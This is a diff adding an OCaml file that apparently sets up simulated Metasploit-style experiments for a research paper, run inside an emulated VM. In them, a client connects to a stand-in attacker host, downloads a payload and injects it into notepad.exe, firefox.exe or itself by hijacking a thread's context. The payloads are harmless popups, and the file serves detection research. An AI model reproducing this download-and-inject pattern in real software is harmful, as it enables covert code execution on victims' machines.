@@ -1,0 +1,138 @@
+(* Reflective DLL injection — the three Metasploit-module experiments of
+   Section VI.
+
+   The client (inject_client.exe) opens a reverse connection to the
+   attacker, downloads a length-prefixed payload, and either injects it
+   into a victim process (allocate + cross-process write + thread-context
+   hijack) or into itself (the reverse_tcp_dns experiment, where "the shell
+   code and the target process were the same").  All syscalls are raw —
+   invisible to library-level monitors. *)
+
+open Faros_vm
+
+let attacker_ip = "169.254.26.161"
+let attacker_port = 4444
+
+(* The first process booted by a scenario. *)
+let first_boot_pid = 100
+
+let client_image ~name ~inject =
+  let common_head =
+    List.concat
+      [
+        [ Progs.lbl "start" ];
+        Progs.connect_raw ~ip:attacker_ip ~port:attacker_port;
+        Progs.prefixed_recv ~sock_reg:Isa.r7 ~len_buf:"lenbuf" ~data_buf:"pbuf"
+          ~recv_sub:"recvx";
+        [ Progs.movr Isa.r5 Isa.r3 ]  (* payload length *);
+      ]
+  in
+  let inject_steps =
+    match inject with
+    | `Self ->
+      List.concat
+        [
+          [ Progs.movi Isa.r1 0; Progs.movr Isa.r2 Isa.r5 ];
+          Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
+          [ Progs.movr Isa.r6 Isa.r0 ];
+          [
+            Progs.movi Isa.r1 0;
+            Progs.movr Isa.r2 Isa.r6;
+            Asm.Mov_label (Isa.r3, "pbuf");
+            Progs.movr Isa.r4 Isa.r5;
+          ];
+          Progs.syscall Faros_os.Syscall.nt_write_virtual_memory;
+          [ Progs.i (Isa.Jmp_r Isa.r6) ];
+        ]
+    | `Pid target ->
+      List.concat
+        [
+          [ Progs.movi Isa.r1 target; Progs.movr Isa.r2 Isa.r5 ];
+          Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
+          [ Progs.movr Isa.r6 Isa.r0 ];
+          [
+            Progs.movi Isa.r1 target;
+            Progs.movr Isa.r2 Isa.r6;
+            Asm.Mov_label (Isa.r3, "pbuf");
+            Progs.movr Isa.r4 Isa.r5;
+          ];
+          Progs.syscall Faros_os.Syscall.nt_write_virtual_memory;
+          [ Progs.movi Isa.r1 target ];
+          Progs.syscall Faros_os.Syscall.nt_suspend_process;
+          [ Progs.movi Isa.r1 target; Progs.movr Isa.r2 Isa.r6 ];
+          Progs.syscall Faros_os.Syscall.nt_set_context_thread;
+          [ Progs.movi Isa.r1 target ];
+          Progs.syscall Faros_os.Syscall.nt_resume_process;
+          [ Progs.halt ];
+        ]
+  in
+  Faros_os.Pe.of_program ~name ~base:Faros_os.Process.image_base
+    (List.concat
+       [
+         common_head;
+         inject_steps;
+         Progs.recv_exact_sub ~label:"recvx";
+         [ Asm.Align 4 ];
+         Progs.buffer "lenbuf" 4;
+         Progs.buffer "pbuf" 4096;
+       ])
+
+(* Metasploit-side actor: serves the payload on connect. *)
+let attacker_actor ~payload =
+  {
+    Faros_os.Netstack.actor_name = "metasploit";
+    actor_ip = Faros_os.Types.Ip.of_string attacker_ip;
+    actor_port = attacker_port;
+    on_connect = (fun _flow -> [ Progs.frame payload ]);
+    on_data = (fun _flow _data -> []);
+  }
+
+(* Experiment 1 (Fig. 7): reflective_dll_inject into notepad.exe. *)
+let reflective_dll_inject ?(scrub = false) () =
+  let payload = Payloads.popup ~scrub ~text:"injected!" () in
+  Scenario.make "reflective_dll_inject"
+    ~images:
+      [
+        ("notepad.exe", Victims.notepad ());
+        ( "inject_client.exe",
+          client_image ~name:"inject_client.exe" ~inject:(`Pid first_boot_pid) );
+      ]
+    ~actors:[ attacker_actor ~payload ]
+    ~boot:[ "notepad.exe"; "inject_client.exe" ]
+
+(* Experiment 2 (Fig. 8): reverse_tcp_dns — self-injection. *)
+let reverse_tcp_dns () =
+  let payload = Payloads.popup ~text:"shell ready" () in
+  Scenario.make "reverse_tcp_dns"
+    ~images:
+      [ ("inject_client.exe", client_image ~name:"inject_client.exe" ~inject:`Self) ]
+    ~actors:[ attacker_actor ~payload ]
+    ~boot:[ "inject_client.exe" ]
+
+(* The full reflective-DLL variant: the wire payload is a bootstrap plus a
+   sectioned DLL image; the bootstrap maps it inside notepad.exe with its
+   own memcpy and calls the entry point (see {!Payloads.rdll_blob}). *)
+let reflective_rdll () =
+  let payload = Payloads.rdll_blob ~text:"rdll loaded" () in
+  Scenario.make "reflective_rdll"
+    ~images:
+      [
+        ("notepad.exe", Victims.notepad ());
+        ( "inject_client.exe",
+          client_image ~name:"inject_client.exe" ~inject:(`Pid first_boot_pid) );
+      ]
+    ~actors:[ attacker_actor ~payload ]
+    ~boot:[ "notepad.exe"; "inject_client.exe" ]
+
+(* Experiment 3 (Fig. 9): bypassuac_injection into firefox.exe. *)
+let bypassuac_injection () =
+  let payload = Payloads.popup ~text:"uac bypassed" () in
+  Scenario.make "bypassuac_injection"
+    ~images:
+      [
+        ("firefox.exe", Victims.firefox ());
+        ( "inject_client.exe",
+          client_image ~name:"inject_client.exe" ~inject:(`Pid first_boot_pid) );
+      ]
+    ~actors:[ attacker_actor ~payload ]
+    ~boot:[ "firefox.exe"; "inject_client.exe" ]
